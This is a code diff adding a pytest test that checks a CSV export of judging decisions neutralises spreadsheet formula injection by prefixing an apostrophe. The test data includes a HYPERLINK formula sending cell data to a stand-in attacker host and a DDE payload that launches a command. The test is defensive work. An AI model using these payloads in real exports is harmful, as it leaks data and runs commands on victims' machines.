@@ -104,6 +104,30 @@ def test_it_exports_filtered_decisions_as_csv(decisions: list[JudgeDecision], ad
     assert rows[0]["note_status"] == NoteStatus.HELPFUL
 
 
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1",
+        "  =1",
+        "＝1+1",
+    ],
+)
+def test_it_neutralises_spreadsheet_formulas_in_the_csv(
+    decisions: list[JudgeDecision], admin_client: Any, payload: str
+) -> None:
+    JudgeDecision.objects.filter(pk=decisions[0].pk).update(reasoning=payload, override_reason=payload)
+    response = admin_client.get(reverse("judging:decision_export"), {"stage": "relevance"})
+    row = next(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["reasoning"] == "'" + payload
+    assert row["override_reason"] == "'" + payload
+    assert row["latency_ms"] == str(decisions[0].latency_ms)  # numbers stay numbers
+
+
 def test_it_runs_preflight_for_contributors_without_saving(contributor_client: Any, llm_server: Any) -> None:
     llm_server.respond_with(answers(relevance="None of these help.\nFinal decision: no"))
     response = contributor_client.post(
